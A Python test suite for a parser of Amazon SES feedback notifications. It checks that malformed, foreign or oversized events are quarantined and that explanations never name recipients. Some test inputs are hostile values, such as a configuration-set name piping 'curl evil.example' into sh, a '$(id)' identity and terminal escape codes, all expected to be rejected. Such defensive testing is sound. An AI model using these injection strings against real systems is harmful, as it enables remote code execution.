"""Whatever the queue holds is read as one of four things; what is said of it never names a recipient."""

import json
from collections.abc import Iterator
from copy import deepcopy
from typing import Any, get_args

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from ses_reputation.feedback.origins import Origin
from ses_reputation.feedback.provenance import Reason, Registry
from ses_reputation.feedback.reading import Observed, Reading, read_wire
from ses_reputation.feedback.set_aside import Ignored, Quarantined, SubscriptionRequest
from tests.support.notifications import ARN, DELEGATE, FOREIGN, OWNER, envelope, notified, published
from tests.support.stack_template import ROOT

EVENTS = ROOT / "events"
REGISTRY = Registry(frozenset({OWNER}), frozenset({DELEGATE, "777788889999"}))
BODIES = [
    json.loads(path.read_text(encoding="utf-8"))["Records"][0]["body"]
    for path in sorted(EVENTS.rglob("*.json"))
    if path.parent.name != "archives"
]
Where = tuple[str | int, ...]
unhurried = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
MISPLACED = "recipient-99@gmail.com"

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=8,
)
replacements = json_values | st.sampled_from(
    [
        MISPLACED,
        [MISPLACED],
        {"emailAddress": MISPLACED},
        [{"emailAddress": MISPLACED}],
        "",
        "é" * 4_000,
        [],
        {},
    ]
)


def is_one_of_four(reading: Reading) -> bool:
    return type(reading) in get_args(Reading)


def read(event: Any, topic_account: str = DELEGATE, topic_region: str = "us-east-1") -> Reading:
    topic_arn = f"arn:aws:sns:{topic_region}:{topic_account}:ses-feedback"
    return read_wire(envelope(json.dumps(event), topic_account, TopicArn=topic_arn), REGISTRY)


def reason_of(reading: Reading) -> Reason:
    assert isinstance(reading, Quarantined), reading
    return reading.reason


def places_in(value: Any, where: Where = ()) -> Iterator[Where]:
    """Yield the path of everything in a JSON value."""
    children = (
        value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    )
    for key, child in children:
        yield (*where, key)
        yield from places_in(child, (*where, key))


def mutate(value: Any, draw: st.DrawFn) -> Any:
    """Delete or replace one to three things anywhere in a JSON value."""
    value = deepcopy(value)
    for _ in range(draw(st.integers(1, 3))):
        places = list(places_in(value))
        if not places:
            break
        *parents, last = draw(st.sampled_from(places))
        parent = value
        for key in parents:
            parent = parent[key]
        if draw(st.booleans()):
            del parent[last]
        else:
            parent[last] = deepcopy(draw(replacements))
    return value


@st.composite
def mutated_bodies(draw: st.DrawFn) -> str:
    """A body out of events/, with its event or its envelope damaged."""
    try:
        wrapping = json.loads(draw(st.sampled_from(BODIES)))
        event = json.loads(wrapping["Message"])
    except (ValueError, TypeError, KeyError):
        return json.dumps(mutate({"Type": "Notification", "Message": MISPLACED}, draw))
    if draw(st.integers(0, 3)) and isinstance(event, dict):
        wrapping["Message"] = json.dumps(mutate(event, draw))
        return json.dumps(wrapping)
    return json.dumps(mutate(wrapping, draw))


def addresses_in(value: Any) -> set[str]:
    """Whatever looks like an address in a body, its event unwrapped, but for the sending identity's."""
    if isinstance(value, str):
        try:
            return addresses_in(json.loads(value))
        except ValueError:
            return {word.lower() for word in value.replace("<", " ").replace(">", " ").split() if "@" in word}
    children = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return set().union(*map(addresses_in, children))


@unhurried
@given(st.text() | st.text(alphabet=st.characters(), max_size=30))
@example("\ud800")
@example("[" * 100_000)
@example('{"Type":' * 5_000)
@example("9" * 5_000)
@example('{"eventType":' + "9" * 5_000 + "}")
def test_any_text_is_read(text: str) -> None:
    assert is_one_of_four(read_wire(text, REGISTRY))
    assert is_one_of_four(read_wire(envelope(text), REGISTRY))


@unhurried
@given(json_values)
def test_any_json_is_read(value: Any) -> None:
    assert is_one_of_four(read_wire(json.dumps(value), REGISTRY))
    assert is_one_of_four(read(value))


@settings(unhurried, max_examples=400)
@given(mutated_bodies())
def test_a_damaged_notification_is_read_and_what_is_said_of_it_names_no_address(body: str) -> None:
    reading = read_wire(body, REGISTRY)

    assert is_one_of_four(reading)
    if isinstance(reading, Quarantined):
        assert [address for address in addresses_in(body) if address in reading.explanation.lower()] == []


@settings(unhurried, max_examples=400)
@given(mutated_bodies())
def test_what_is_observed_can_be_stored(body: str) -> None:
    """Keys of DynamoDB: 1,024 bytes of sort key, 2,048 of partition key, none of them empty."""
    reading = read_wire(body, REGISTRY)

    if isinstance(reading, Observed):
        origin = reading.origin
        assert all(0 < len(part.encode()) <= 320 and "#" not in part for part in origin.account_hour)
        # Names on a page, which has room for this much (ses_reputation.ledger.journal).
        assert 0 < len(origin.identity.encode()) <= 320
        assert len(origin.from_domain.encode()) <= 320
        assert len(reading.observations) > 0
        for observation in reading.observations:
            assert 0 < len(observation.recipient.encode()) <= 2_048


@pytest.mark.parametrize(
    "fields",
    [
        {"sourceArn": ARN.format(owner=OWNER, identity=".")},
        {"sourceArn": ARN.format(owner=OWNER, identity="")},
        {"sourceArn": ARN.format(owner=OWNER, identity="é" * 200)},
        {"sourceArn": ARN.format(owner="", identity="example.com")},
        {"sourceArn": ARN.format(owner="recipient-1@gmail.com", identity="example.com")},
        {"sourceArn": f"arn:aws:ses:us#east:{OWNER}:identity/example.com"},
        {"sourceArn": f"arn:aws:ses::{OWNER}:identity/example.com"},
        {"sourceArn": f"arn:aws:ses:us-east-1:{OWNER}:configuration-set/newsletter"},
        {"sourceArn": "example.com"},
        {"sourceArn": None, "source": "news@" + "x" * 1_000},
        {"sourceArn": None, "source": "news@"},
        {"sourceArn": None, "source": None},
        {"destination": ["x" * 600]},
        {"destination": ["", "<>"]},
    ],
)
def test_an_event_that_could_never_be_stored_is_incomplete(fields: dict[str, Any]) -> None:
    assert reason_of(read(published("Send", "newsletter", fields))) is Reason.INCOMPLETE_EVENT


def origin_in(reading: Reading) -> Origin:
    assert isinstance(reading, Observed), reading
    return reading.origin


def test_an_event_says_where_its_mail_comes_from() -> None:
    fields = {"source": "The News <News@Mail.Example.COM>"}

    assert origin_in(read(published("Send", "newsletter", fields))) == (
        (DELEGATE, "us-east-1", "2026-11-20T14"),
        "example.com",
        False,
        OWNER,
        "mail.example.com",
    )


def test_without_source_arn_the_identity_is_assumed_to_be_the_from_domain_and_the_region_the_topics() -> None:
    event = published("Send", "newsletter", {"sourceArn": None, "source": '"News" <news@Mail.Example.com>'})
    reading = read(event, topic_region="eu-west-1")

    assert origin_in(reading) == (
        (DELEGATE, "eu-west-1", "2026-11-20T14"),
        "mail.example.com",
        True,
        None,
        "mail.example.com",
    )
    assert isinstance(reading, Observed)
    assert reading.sender_hour == (DELEGATE, "eu-west-1", "mail.example.com", "2026-11-20T14")
    assert reason_of(read(event, topic_region="")) is Reason.FOREIGN_TOPIC


def test_an_arn_for_all_regions_leaves_the_region_to_the_topic() -> None:
    arn = f"arn:aws:ses:*:{OWNER}:identity/example.com"
    event = published("Send", "newsletter", {"sourceArn": arn})

    assert origin_in(read(event, topic_region="eu-west-1")).account_hour.region == "eu-west-1"


@pytest.mark.parametrize("dialect", [published, notified])
def test_an_event_of_another_region_than_its_topics_is_not_believed(dialect: Any) -> None:
    """SES publishes within its Region; else one topic could speak for an account's mail in all Regions."""
    reading = read(dialect("Delivery", recipients=["recipient-1@gmail.com"]), OWNER, topic_region="eu-west-1")

    assert isinstance(reading, Quarantined)
    assert reading.reason is Reason.CONTRADICTS_TOPIC
    assert "mail of us-east-1 was reported to a topic in eu-west-1" in reading.explanation


@pytest.mark.parametrize("source", ["", None, "news@", "news@" + "x" * 400, "@", "<>"])
def test_mail_whose_source_is_odd_is_read_where_its_arn_is_there(source: str | None) -> None:
    found = origin_in(read(published("Send", "newsletter", {"source": source})))

    assert (found.identity, found.is_assumed, found.owner) == ("example.com", False, OWNER)
    assert found.from_domain == ""


def test_all_events_of_a_mail_say_the_same_of_its_from_domain() -> None:
    """It says in which part of an hour a fact stands: one dispatch must not stand in two."""
    sources = ["news@mail.example.com", "News <NEWS@Mail.Example.com>", "<news@mail.example.com.>"]
    found = {origin_in(read(published("Send", None, {"source": source}))).from_domain for source in sources}

    assert found == {"mail.example.com"}


def test_an_identity_may_be_an_address() -> None:
    arn = ARN.format(owner=OWNER, identity="News+Daily@Example.com")
    reading = read(published("Send", "newsletter", {"sourceArn": arn}))

    assert isinstance(reading, Observed)
    assert reading.sender_hour.identity == "news+daily@example.com"


def test_both_feeds_count_a_fact_in_the_same_hour_and_dispatch() -> None:
    block: dict[str, Any] = {
        "bounceType": "Permanent",
        "timestamp": "2026-11-20T14:06:00Z",
        "bouncedRecipients": [{"emailAddress": "Recipient-1@GMAIL.com"}],
    }
    fields = {"timestamp": "2026-11-20T15:05:45+01:00", "destination": ["<recipient-1@gmail.com>"]}
    by_sender = read(published("Bounce", "newsletter", **block))
    by_owner = read(notified("Bounce", fields, **block), OWNER)

    assert isinstance(by_sender, Observed)
    assert isinstance(by_owner, Observed)
    assert (by_sender.feed, by_owner.feed) == ("sender", "owner")
    assert by_sender.sender_hour == by_owner.sender_hour
    assert by_sender.observations == by_owner.observations
    assert (by_sender.configuration_set, by_owner.configuration_set) == ("newsletter", None)


@pytest.mark.parametrize(
    ("tags", "kept"), [([], None), ([""], None), (["x" * 64], "x" * 64), (["a-B_9", "b"], "a-B_9")]
)
def test_a_configuration_set_is_the_first_that_the_tags_name(tags: list[str], kept: str | None) -> None:
    event = published("Send")
    event["mail"]["tags"] = {"ses:configuration-set": tags}
    reading = read(event)

    assert isinstance(reading, Observed)
    assert reading.configuration_set == kept


@pytest.mark.parametrize("event_type", ["Open", "Click", "Subscription"])
@pytest.mark.parametrize("is_complete", [True, False])
def test_engagement_is_ignored_by_name_however_little_it_holds(event_type: str, is_complete: bool) -> None:
    event = published(event_type) if is_complete else {"eventType": event_type, "mail": {}}

    assert read(event) == Ignored(event_type.lower())
    assert reason_of(read(event, FOREIGN)) is Reason.FOREIGN_TOPIC


def test_a_newer_event_type_is_named_in_its_explanation() -> None:
    reading = read(published("Postmark"))

    assert isinstance(reading, Quarantined)
    assert reading.reason is Reason.UNKNOWN_EVENT_TYPE
    assert "'Postmark'" in reading.explanation


@pytest.mark.parametrize("event_type", [MISPLACED, "x" * 41])
def test_what_is_no_name_of_a_type_is_not_repeated(event_type: str) -> None:
    reading = read(published(event_type))

    assert isinstance(reading, Quarantined)
    assert event_type not in reading.explanation


def test_an_incomplete_event_says_which_fields_do_not_fit() -> None:
    event = published("Bounce", bounceType="Permanent", timestamp=MISPLACED, bouncedRecipients=[{"email": 1}])
    event["mail"]["sendingAccountId"] = 7
    reading = read(event)

    assert isinstance(reading, Quarantined)
    assert reading.reason is Reason.INCOMPLETE_EVENT
    assert "mail.sendingAccountId: string_type" in reading.explanation
    assert "bounce.bouncedRecipients.0.emailAddress: missing" in reading.explanation


def test_a_subscription_request_brings_its_token() -> None:
    fields = {"Type": "SubscriptionConfirmation", "Token": "token-1"}
    body = envelope("You have chosen to subscribe", OWNER, **fields)
    arn = f"arn:aws:sns:us-east-1:{OWNER}:ses-feedback"

    assert read_wire(body, REGISTRY) == SubscriptionRequest(arn, "token-1")


@pytest.mark.parametrize("kind", ["SubscriptionConfirmation", "UnsubscribeConfirmation", "Notification"])
def test_a_stranger_is_not_listened_to(kind: str) -> None:
    reading = read_wire(envelope("Successfully validated SNS topic", FOREIGN, Type=kind), REGISTRY)

    assert isinstance(reading, Quarantined)
    assert reading.reason.value.startswith("foreign_")
    assert FOREIGN in reading.explanation
    assert reading.topic_arn == f"arn:aws:sns:us-east-1:{FOREIGN}:ses-feedback"


def test_event_type_wins_where_an_event_claims_both_dialects() -> None:
    reading = read(published("Send") | {"notificationType": "Bounce"})

    assert isinstance(reading, Observed)
    assert (reading.event_type, reading.dialect) == ("Send", "publishing")


@pytest.mark.parametrize(
    "name",
    [
        "x" * 65,
        "x;curl evil.example|sh;#",
        "a b",
        "a\nb",
        "a\x1b[31m",
        "[/x]",
        "news.letter",
        "é",
        "(none)",
        "=",
    ],
)
def test_a_configuration_set_as_ses_lets_nobody_call_one_is_quarantined(name: str) -> None:
    reading = read(published("Send", name))

    assert isinstance(reading, Quarantined)
    assert reading.reason is Reason.INCOMPLETE_EVENT
    assert "mail.tags names a configuration set" in reading.explanation
    assert name not in reading.explanation or len(name) == 1


@pytest.mark.parametrize(
    "identity",
    [
        *(
            "a b.example",
            "a\n\nb.example",
            "a\x1b[31m.example",
            "[/x]",
            "a..b",
            ".a",
            "-$(id).example",
            "a@b@c",
        ),
        *(
            "<b>@example.com",
            "a@b c.example",
            "a\n@example.com",
            "a@",
            "@example.com",
            '"a b"@example.com',
            "é@b.c",
        ),
        *("x" * 321, "a/b.example", "x" * 300 + "@example.com.and.more"),
    ],
)
def test_an_identity_that_ses_would_not_verify_is_quarantined(identity: str) -> None:
    arn = ARN.format(owner=OWNER, identity=identity)

    assert reason_of(read(published("Send", "newsletter", {"sourceArn": arn}))) is Reason.INCOMPLETE_EVENT


@pytest.mark.parametrize("source", ["a@[192.0.2.1]", "a@\x1b[31m", "a@b..c", "a@.", "no address"])
def test_a_from_domain_that_is_none_is_no_identity_and_no_from_domain(source: str) -> None:
    without_arn = {"source": source, "sourceArn": None}

    assert origin_in(read(published("Send", None, {"source": source}))).from_domain == ""
    assert reason_of(read(published("Send", None, without_arn))) is Reason.INCOMPLETE_EVENT


@pytest.mark.parametrize("message_id", ["a b", "a\nb", "a\x1b[31mb", "é", "", "x" * 257])
def test_a_message_id_as_ses_writes_none_is_quarantined(message_id: str) -> None:
    assert reason_of(read(published("Send", None, {"messageId": message_id}))) is Reason.INCOMPLETE_EVENT


@pytest.mark.parametrize("name", ["a b", "a\nb", "a\x1b[31m", "", "é", "x" * 257])
def test_a_topic_as_sns_has_none_is_nobodys(name: str) -> None:
    arn = f"arn:aws:sns:us-east-1:{DELEGATE}:{name}"
    body = envelope(json.dumps(published("Send")), TopicArn=arn)

    assert reason_of(read_wire(body, REGISTRY)) is Reason.FOREIGN_TOPIC


def test_an_event_of_more_recipients_than_ses_mails_is_quarantined() -> None:
    most = [f"recipient-{number}@gmail.com" for number in range(50)]
    named = [{"emailAddress": each} for each in most]
    block: dict[str, Any] = {"bounceType": "Permanent", "timestamp": "2026-11-20T14:06:00Z"}

    for event, over in (
        (
            published("Send", None, {"destination": most}),
            published("Send", None, {"destination": [*most, "a@b.c"]}),
        ),
        (
            published("Bounce", None, {"destination": most}, bouncedRecipients=named, **block),
            published("Bounce", None, {"destination": most}, bouncedRecipients=[*named, {}], **block),
        ),
    ):
        reading = read(event)
        assert isinstance(reading, Observed)
        assert len(reading.observations) == 50
        assert reason_of(read(over)) is Reason.INCOMPLETE_EVENT


DEEP_ADDRESS = "(" * 600 + ")" * 600 + " <a b@c.example>"


def test_an_address_that_nests_deep_is_a_recipient_as_any_other() -> None:
    block: dict[str, Any] = {
        "timestamp": "2026-11-20T14:06:00Z",
        "bouncedRecipients": [{"emailAddress": DEEP_ADDRESS}],
    }
    reading = read(published("Bounce", None, {"destination": ["b@c.example", "other@c.example"]}, **block))

    assert isinstance(reading, Observed)
    assert [each.recipient for each in reading.observations] == ["b@c.example"]


@pytest.mark.parametrize("error", [RecursionError, KeyError, UnicodeError, ZeroDivisionError, MemoryError])
def test_a_message_that_our_own_code_fails_on_is_quarantined_as_a_defect_without_its_text(
    error: type[Exception], monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: object) -> None:
        raise error(MISPLACED)

    monkeypatch.setattr("ses_reputation.feedback.reading.observe", fail)
    reading = read(published("Send"))

    assert isinstance(reading, Quarantined)
    assert reading.reason is Reason.DEFECT
    assert "defect" in reading.explanation
    assert error.__name__ in reading.explanation
    assert MISPLACED not in reading.explanation
